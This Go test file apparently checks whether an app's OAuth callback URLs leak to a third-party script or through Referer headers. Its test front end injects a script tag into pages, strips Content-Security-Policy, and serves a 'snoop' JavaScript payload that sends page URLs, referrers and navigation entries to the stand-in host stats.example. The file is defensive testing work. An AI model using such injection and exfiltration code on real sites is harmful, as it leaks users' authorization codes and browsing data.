package browser_test

import (
	"bytes"
	"crypto/x509"
	"io"
	"net/http"
	"net/http/httptest"
	"strconv"
	"strings"
	"sync"
	"testing"

	"github.com/fullcast/sfauth/oauthflow/orgtest"
)

// front speaks TLS for the site and for a third party whose script may be put on each of the site's pages. It keeps what
// came by.
type front struct {
	server *httptest.Server

	mu        sync.Mutex
	tracked   bool     // the third party's script is on the pages
	held      bool     // callbacks are kept from the app
	callbacks []string // addresses of the site that held a code or an error
	leaks     []string // what third parties and Referers were told
}

const tracker = "stats.example"

// snoop tells the third party whatever a script can find out about where the page came from.
const snoop = `
const seen = [location.href, document.referrer, document.URL];
for (const e of performance.getEntriesByType("navigation").concat(performance.getEntriesByType("resource"))) seen.push(e.name);
if (window.navigation && navigation.entries) for (const e of navigation.entries()) seen.push(e.url);
fetch("https://stats.example/beacon", {method: "POST", mode: "no-cors", referrerPolicy: "unsafe-url", body: seen.join("\n")});
new Image().src = "https://stats.example/pixel";
`

func startFront(t *testing.T, app http.Handler) *front {
	t.Helper()
	f := &front{}
	f.server = httptest.NewTLSServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		callback := f.note(r)
		switch {
		case r.Host == tracker:
			f.thirdParty(w, r)
			return
		case callback && f.holds():
			http.Error(w, "held", http.StatusServiceUnavailable)
			return
		}
		if !f.tracks() {
			app.ServeHTTP(w, r)
			return
		}
		r.Header.Del("Accept-Encoding")
		answer := httptest.NewRecorder()
		app.ServeHTTP(answer, r)
		withScript(w, answer)
	}))
	t.Cleanup(f.server.Close)
	return f
}

// withScript puts the third party's script first on the page, and takes away the policy that would keep it out.
func withScript(w http.ResponseWriter, answer *httptest.ResponseRecorder) {
	body := answer.Body.Bytes()
	if strings.HasPrefix(answer.Header().Get("Content-Type"), "text/html") {
		body = bytes.Replace(body, []byte("<head>"), []byte(`<head><script src="https://`+tracker+`/script.js"></script>`), 1)
	}
	for name, values := range answer.Header() {
		w.Header()[name] = values
	}
	w.Header().Del("Content-Security-Policy")
	w.Header().Set("Content-Length", strconv.Itoa(len(body)))
	w.WriteHeader(answer.Code)
	w.Write(body)
}

func (f *front) reaches() []reach {
	addr, cert := f.server.Listener.Addr().String(), f.server.Certificate()
	return []reach{{strings.TrimPrefix(string(site), "https://"), addr, cert}, {tracker, addr, cert}}
}

func (f *front) track() {
	f.mu.Lock()
	defer f.mu.Unlock()
	f.tracked = true
}

func (f *front) tracks() bool {
	f.mu.Lock()
	defer f.mu.Unlock()
	return f.tracked
}

// hold keeps callbacks from the app, or lets them pass.
func (f *front) hold(on bool) {
	f.mu.Lock()
	defer f.mu.Unlock()
	f.held = on
}

func (f *front) holds() bool {
	f.mu.Lock()
	defer f.mu.Unlock()
	return f.held
}

// note keeps what came by, and reports whether it is a callback.
func (f *front) note(r *http.Request) bool {
	f.mu.Lock()
	defer f.mu.Unlock()
	f.leaks = append(f.leaks, "Referer "+r.Referer())
	q := r.URL.Query()
	if !q.Has("state") || !q.Has("code") && !q.Has("error") {
		return false
	}
	f.callbacks = append(f.callbacks, "https://"+r.Host+r.URL.String())
	return true
}

func (f *front) thirdParty(w http.ResponseWriter, r *http.Request) {
	told, _ := io.ReadAll(io.LimitReader(r.Body, 1<<20))
	f.mu.Lock()
	f.leaks = append(f.leaks, r.URL.Path+" "+string(told))
	f.mu.Unlock()
	switch r.URL.Path {
	case "/script.js":
		w.Header().Set("Content-Type", "text/javascript")
		io.WriteString(w, snoop)
	default:
		w.WriteHeader(http.StatusNoContent)
	}
}

// callback is the address that Salesforce last sent a browser to.
func (f *front) callback(t *testing.T) string {
	t.Helper()
	f.mu.Lock()
	defer f.mu.Unlock()
	if len(f.callbacks) == 0 {
		t.Fatal("no callback came by")
	}
	return f.callbacks[len(f.callbacks)-1]
}

// told returns what the third party and Referers have been told.
func (f *front) told() []string {
	f.mu.Lock()
	defer f.mu.Unlock()
	return append([]string(nil), f.leaks...)
}

// authorityOf is the certificate of the org's authority, whose key its servers' certificates share.
func authorityOf(s *orgtest.Server) *x509.Certificate {
	c, err := x509.ParseCertificate(s.CA())
	if err != nil {
		panic(err)
	}
	return c
}
